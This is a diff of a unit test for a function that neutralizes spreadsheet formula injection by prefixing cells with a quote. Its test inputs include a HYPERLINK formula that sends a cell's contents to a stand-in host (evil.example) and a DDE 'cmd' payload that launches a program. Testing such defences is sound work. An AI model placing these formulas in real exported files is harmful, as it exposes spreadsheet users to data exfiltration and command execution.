@@ -4,7 +4,7 @@ import { isFormulaLike, neutralizeFormula } from '../../src/lib/formula-cells.ts
 describe('neutralizeFormula', () => {
   test.each([
     ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`],
-    ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
+    ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
     ['-2+3', `'-2+3`],
     ['@SUM(1,2)', `'@SUM(1,2)`],
     ['\t=1+1', `'\t=1+1`],
